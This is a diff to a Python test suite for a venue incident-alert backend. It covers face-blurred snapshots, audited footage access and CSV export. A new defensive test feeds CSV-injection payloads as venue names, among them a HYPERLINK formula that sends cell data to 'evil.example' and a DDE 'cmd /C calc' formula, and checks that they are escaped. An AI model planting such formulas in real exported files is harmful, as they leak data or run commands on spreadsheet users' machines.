@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import uuid
 from datetime import UTC, datetime, timedelta
 from typing import Any
@@ -40,14 +42,16 @@ async def _incident(
     outcome: str | None = None,
     snapshot_key: str | None = "v/snap.jpg",
     clip_key: str | None = "v/clip.mp4",
+    blurred: bool = True,
 ) -> uuid.UUID:
-    """A past incident with fixed times (test data, as the factories write it)."""
+    """A past incident with fixed times (test data, as the factories write it); ``blurred``: its
+    snapshot has a face-blurred twin."""
     incident_id: uuid.UUID = await conn.fetchval(
         """
         INSERT INTO incidents (venue_id, region_id, kind, status, opened_at, first_seen_at, last_seen_at, outcome,
-                               resolved_at, snapshot_key, clip_key)
+                               resolved_at, snapshot_key, clip_key, blurred_snapshot_key)
         SELECT id, region_id, $2, $3, $4::timestamptz, $4::timestamptz - interval '3 seconds', $4, $5,
-               CASE WHEN $3 = 'resolved' THEN $4::timestamptz + interval '10 minutes' END, $6, $7
+               CASE WHEN $3 = 'resolved' THEN $4::timestamptz + interval '10 minutes' END, $6, $7, $8
         FROM venues WHERE id = $1
         RETURNING id
         """,
@@ -58,6 +62,7 @@ async def _incident(
         outcome,
         snapshot_key,
         clip_key,
+        snapshot_key.replace(".jpg", "_blurred.jpg") if snapshot_key and blurred else None,
     )
     return incident_id
 
@@ -265,7 +270,9 @@ class Escalated:
         await make.device(self.officer)
         inbox.fail(bouncer_token, "UNREGISTERED")  # the bouncer's phone is gone: a permanent failure
         camera = await make.camera(self.venue.id)
-        self.incident = await make.incident(self.venue.id, snapshot_key="v/snap.jpg", clip_key="v/clip.mp4")
+        self.incident = await make.incident(
+            self.venue.id, snapshot_key="v/snap.jpg", clip_key="v/clip.mp4", blurred_snapshot_key="v/snap_blurred.jpg"
+        )
         self.detection = await _attach(conn, make, camera, self.incident, score=0.87, reason="model 0.87 >= 0.5")
         await enqueue_dispatch(conn, self.incident)
         async with dispatch_worker(settings) as ctx:
@@ -349,7 +356,9 @@ async def test_every_footage_access_is_audited_and_shown_to_the_owner(
         query = parse_qs(url.query)
         expires = int((query.get("X-Amz-Expires") or query.get("Expires") or ["0"])[0])
         assert 0 < expires <= 300, url
-        assert url.path.endswith("v/clip.mp4" if kind == "clip" else "v/snap.jpg")
+        # The owner sees faces blurred; responders (the dispatcher here) the clear snapshot.
+        wanted = {"clip": "v/clip.mp4", "snapshot": "v/snap_blurred.jpg" if who is e.owner else "v/snap.jpg"}
+        assert url.path.endswith(wanted[kind])
     for who in (e.other_owner,):
         response = await client.get(f"/v1/incidents/{e.incident}/clip", headers=make.auth(who), follow_redirects=False)
         assert response.status_code == 404
@@ -608,9 +617,6 @@ async def test_stats_on_a_fixed_data_set(
 async def test_csv_export_streams_rfc4180_and_parses_back(
     venues: Venues, make: Factory, conn: asyncpg.Connection, client: Client
 ) -> None:
-    import csv
-    import io
-
     from backend.history.stats import CSV_COLUMNS, EXPORT_BATCH
 
     venue = await make.venue(name='Club "Aurora", Almaty', region_id=venues.r1.id, owner_id=venues.owner_a.id)
@@ -653,3 +659,33 @@ async def test_csv_export_streams_rfc4180_and_parses_back(
     assert len(list(csv.reader(io.StringIO(response.text, newline="")))) == 2  # header + the weapon one
     for who in (venues.owner_b, venues.bouncer_a1):
         assert (await client.get(url, headers=make.auth(who))).status_code == 404
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        '=HYPERLINK("http://evil.example/?"&A1,"Club")',
+        "+7 (727) 000-00-00 Bar",
+        "-2+3 Lounge",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\tTabbed Club",
+        "\rCarriage Club",
+    ],
+)
+async def test_csv_cells_that_a_spreadsheet_would_run_are_escaped(
+    name: str, venues: Venues, make: Factory, conn: asyncpg.Connection, client: Client
+) -> None:
+    """OWASP CSV injection: a text cell starting with = + - @ tab or CR is prefixed with ' (parsed
+    back, the cell is the name behind one quote; every other cell is untouched)."""
+    venue = await make.venue(region_id=venues.r1.id, owner_id=venues.owner_a.id)
+    # Names reach the database by other ways than the API too (CLI, older rows): written directly.
+    await conn.execute("UPDATE venues SET name = $2 WHERE id = $1", venue.id, name)
+    incident = await _incident(conn, venue.id, T0, status="resolved", outcome="false_alarm")
+    response = await client.get(f"/v1/venues/{venue.id}/incidents.csv", headers=make.auth(venues.owner_a))
+    assert response.status_code == 200, response.text
+    header, row = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
+    cells = dict(zip(header, row, strict=True))
+    assert cells["venue"] == "'" + name
+    assert cells["incident_id"] == str(incident) and cells["outcome"] == "false_alarm"
+    assert float(cells["max_score"]) == 0 and cells["detection_count"] == "1"
+    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in row)
